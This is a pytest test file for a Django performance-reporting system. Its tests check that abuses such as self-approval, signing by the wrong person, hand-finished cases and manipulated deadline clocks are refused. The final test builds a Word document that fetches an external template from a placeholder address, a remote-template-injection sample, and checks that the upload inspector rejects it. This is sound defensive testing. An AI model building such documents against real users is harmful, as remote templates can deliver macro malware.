"""Ways in which sheets and rounds could be abused, each refused: one's own work, hand-walked cases, hidden clocks."""

import importlib
import io
import re
import zipfile
from datetime import date, timedelta

import builders
import pytest
from builders import IN_TIME, at, moment
from django.apps import apps
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Membership, User
from accounts.roles import Role
from indicators.actions import achievement as achievements
from indicators.actions import round_approval as approval
from indicators.actions import round_format as formats
from kinerjaku import files
from kinerjaku.errors import DomainError
from reporting.actions import draft as drafts
from reporting.models import AssistanceSheet
from services.actions import case as cases
from services.actions import standard as standards
from services.models import Case, Standard, Step
from tests.indicators.conftest import checking, filling_in, rows, second  # noqa: F401
from verification.actions import matrix, signing
from verification.actions import validation as actions
from verification.models import Proposal, ValidationSheet

pytestmark = pytest.mark.django_db
NOW, THEN = at("2026-10-05 09:00"), at("2026-04-16 10:00")
REFUSED = (DomainError, PermissionDenied)


def also(user, role, unit):
    """The person, with a second role."""
    Membership.objects.create(user=user, role=role, unit=unit)
    return User.objects.get(pk=user.pk)


@pytest.fixture
def itjen(cast):
    return builders.user(Role.ITJEN_VALIDATOR, builders.unit("ITJEN", level="I"))


@pytest.fixture
def sent(cast):
    sheet = builders.validation(cast.unit, when=NOW)
    for name in ("A", "B"):
        builders.proposal(sheet, by=cast.operator, name=name, when=NOW)
    return builders.sent_matrix(sheet, by=cast.operator, when=NOW)


@pytest.fixture
def asheet(cast):
    with moment(THEN):
        builders.indicator(cast.unit)
        builders.frozen(builders.worksheet(cast.unit), by=cast.verifier)
        return AssistanceSheet.objects.get(pk=builders.assistance(cast.unit, by=cast.operator, when=THEN).pk)


def test_who_typed_a_proposal_that_was_removed_does_not_validate(cast):
    both = also(builders.user(Role.OPERATOR, cast.unit), Role.VERIFIER, cast.unit)
    sheet = builders.validation(cast.unit, when=NOW)
    row = builders.proposal(sheet, by=both, when=NOW)
    facts = {name: getattr(row, name) for name in matrix.FIELDS}
    with moment(NOW):
        matrix.remove_row(sheet.pk, row.pk, version=1, by=cast.operator, at=NOW)
        matrix.save_row(sheet.pk, None, facts, version=0, by=cast.operator, at=NOW)
    builders.sent_matrix(sheet, by=cast.operator, when=NOW)
    with moment(NOW), pytest.raises(REFUSED):
        actions.accept_rest(sheet.pk, expected=1, by=both, at=NOW)


def test_a_case_with_a_sheet_is_never_finished_by_hand(cast, asheet):
    with moment(THEN):
        builders.requested(asheet, by=cast.operator, when=THEN)
        builders.assisted(asheet, by=cast.verifier, when=THEN)
    builders.signed(asheet, by=[cast.verifier, cast.official], when=THEN)
    old = Standard.objects.get(key="report_assistance")
    steps, new = list(old.steps.all()), Standard.objects.get(pk=old.pk)
    new.pk, new._state.adding, new.valid_from, new.checklist = None, True, date(2026, 4, 10), []  # a newer version
    new.save()
    for one in steps:  # mover: the default of the model
        Step.objects.create(standard=new, order=one.order, name=one.name, actor=one.actor, back_to=one.back_to)
    later = THEN + timedelta(hours=2)
    with moment(later):
        try:
            signing.reopen(AssistanceSheet.objects.get(pk=asheet.pk), reason="keliru", by=cast.verifier, at=later)
            case_id = AssistanceSheet.objects.get(pk=asheet.pk).case_id
            for order in (4, 5):
                cases.complete_by_hand(case_id, order, note="", by=cast.verifier, at=later)
        except DomainError:
            pass
    found = AssistanceSheet.objects.select_related("case").get(pk=asheet.pk)
    assert (found.rows.count(), found.state, found.case.state) != (0, "open", "done")


def test_a_unit_has_one_open_matrix_a_year(cast, as_user):
    verifier = builders.user(Role.VERIFIER, cast.setjen)
    with moment(NOW):
        standards.load(at=NOW)
        for quarter in ("", "1", "2", "3", "4"):
            typed = {"key": "validation", "unit": "SETJEN", "year": "2027", "quarter": quarter}
            as_user(verifier).post("/layanan/baru/", typed)
    assert ValidationSheet.objects.filter(unit=cast.setjen, year=2027).count() == 1


def test_a_removed_draft_is_out_of_sight(cast, asheet, as_user):
    with moment(THEN):
        draft = drafts.give(asheet.pk, builders.pdf("rahasia"), by=cast.operator, at=THEN)
        drafts.remove(draft.pk, by=cast.operator, at=THEN)
        assert as_user(cast.verifier).get(f"/pendampingan/rancangan/{draft.pk}/").status_code == 404


def test_the_clock_stands_while_only_the_unit_has_to_sign_an_assistance(cast, asheet):
    builders.requested(asheet, by=cast.operator, when=THEN)
    builders.assisted(asheet, by=cast.verifier, when=THEN)
    builders.signed(asheet, by=[cast.verifier], when=THEN)
    late, case_id = THEN + timedelta(days=20), AssistanceSheet.objects.get(pk=asheet.pk).case_id
    with moment(late):
        cases.sound(case_id, at=late)
    assert not Case.objects.get(pk=case_id).obligations.exists()


def test_the_clock_stands_while_only_the_unit_has_to_sign_a_validation(cast, sent, itjen):
    builders.validated(sent, by=cast.verifier, when=NOW)
    builders.signed(sent, by=[cast.verifier, itjen], when=NOW)
    late = NOW + timedelta(days=20)
    with moment(late):
        cases.sound(sent.case_id, at=late)
    assert not Case.objects.get(pk=sent.case_id).obligations.exists()


def test_a_pause_for_the_unit_does_not_hold_the_clock_of_the_validators(cast, sent):
    late = NOW + timedelta(days=30)
    with moment(NOW):
        try:
            cases.pause(sent.case_id, kind="waiting_for_unit", reason="-", by=cast.verifier, at=NOW)
        except DomainError:
            return
    with moment(late):
        actions.accept_rest(sent.pk, expected=2, by=cast.verifier, at=late)
        actions.freeze(sent.pk, by=cast.verifier, at=late)
    assert Case.objects.get(pk=sent.case_id).used_microseconds > 0


def test_an_operator_alone_does_not_undo_and_replace_what_was_initialled_and_signed(cast, checking):  # noqa: F811
    with moment(IN_TIME):
        seen = approval.content_hash_of(approval.rows_of(checking))
        approval.accept(checking.pk, content_hash=seen, by=cast.kasubag, at=IN_TIME)
        approval.initial(checking.pk, content_hash=seen, by=cast.kasubag, at=IN_TIME)
        approval.sign(checking.pk, content_hash=seen, by=cast.official, at=IN_TIME)
        with pytest.raises(REFUSED):
            achievements.withdraw(checking.quarter_id, cast.unit, by=cast.operator, at=IN_TIME)
        assert achievements.withdraw(checking.quarter_id, cast.unit, by=cast.official, at=IN_TIME)


def test_who_typed_the_format_does_not_approve_it(cast, rows, second):  # noqa: F811
    both = also(builders.user(Role.OPERATOR, cast.unit), Role.KASUBAG, cast.unit)
    found = builders.opened_round(cast.unit, by=cast.kasubag)
    with moment(IN_TIME):
        typed = builders.lines(found, cast.official, second)
        found = formats.save(found.pk, typed, version=found.version, by=both, at=IN_TIME)
        found = formats.send(found.pk, builders.lines(found), version=found.version, by=cast.operator, at=IN_TIME)
        with pytest.raises(DomainError):
            formats.approve(found.pk, builders.lines(found), version=found.version, by=both, at=IN_TIME)


def test_who_validated_does_not_sign_for_the_unit(cast, sent, itjen):
    both = also(builders.user(Role.ITJEN_VALIDATOR, itjen.memberships.get().unit), Role.OFFICIAL, cast.unit)
    with moment(NOW):
        actions.accept_rest(sent.pk, expected=2, by=both, at=NOW)
        actions.freeze(sent.pk, by=cast.verifier, at=NOW)
    with pytest.raises(REFUSED):
        builders.signed(sent, by=[cast.verifier, itjen, both], when=NOW)


def test_who_assisted_does_not_sign_for_the_unit(cast, asheet):
    both = also(cast.verifier, Role.OFFICIAL, cast.unit)
    other = builders.user(Role.VERIFIER, cast.unit)
    builders.requested(asheet, by=cast.operator, when=THEN)
    builders.assisted(asheet, by=both, when=THEN)
    with pytest.raises(REFUSED):
        builders.signed(asheet, by=[other, both], when=THEN)


def test_what_is_frozen_is_what_the_verifier_saw(cast, sent, itjen, as_user):
    with moment(NOW):
        actions.accept_rest(sent.pk, expected=2, by=cast.verifier, at=NOW)
        page = as_user(cast.verifier).get(f"/validasi/{sent.pk}/").content.decode()
        form = re.search(r'<form[^>]*bekukan/"[^>]*>(.*?)</form>', page, re.S).group(1)
        hidden = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', form))
        row = Proposal.objects.filter(sheet=sent).first()
        actions.decide(row.pk, verdict="invalid", note="berubah", version=row.version, by=itjen, at=NOW)
        answer = as_user(cast.verifier).post(f"/validasi/{sent.pk}/bekukan/", {**hidden, "confirm": "on"})
    assert answer.status_code == 409


def test_after_an_upgrade_new_cases_have_their_sheet(cast):
    standards.load(at=NOW)
    builders.walked_by_hand("validation")  # as 0001 has loaded them
    with moment(NOW):
        old = cases.start("validation", cast.unit, "Tahun 2026", by=None, at=NOW, year=2026)
        importlib.import_module("services.migrations.0002_sheets_move_their_cases").learn(apps, None)
        cases.cancel(old.pk, reason="selesai", by=None, at=NOW)
        new = cases.start("validation", cast.setjen, "Tahun 2027", by=None, at=NOW, year=2027)
    assert new.made is not None


def test_a_document_that_fetches_its_template_from_elsewhere_is_refused():
    package, office = (
        "http://schemas.openxmlformats.org/package/2006/",
        "http://schemas.openxmlformats.org/officeDocument",
    )
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as made:
        override = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        made.writestr("[Content_Types].xml", f'<Types xmlns="{package}content-types">{override}</Types>')
        made.writestr("word/document.xml", "<w:document/>")
        made.writestr(
            "word/_rels/settings.xml.rels",
            f'<Relationships xmlns="{package}relationships"><Relationship Id="r1" TargetMode="External" '
            f'Type="{office}/2006/relationships/attachedTemplate" Target="http://192.0.2.1/x.dotm"/></Relationships>',
        )
    with pytest.raises(DomainError):
        files.inspect(SimpleUploadedFile("lkj.docx", data.getvalue()))
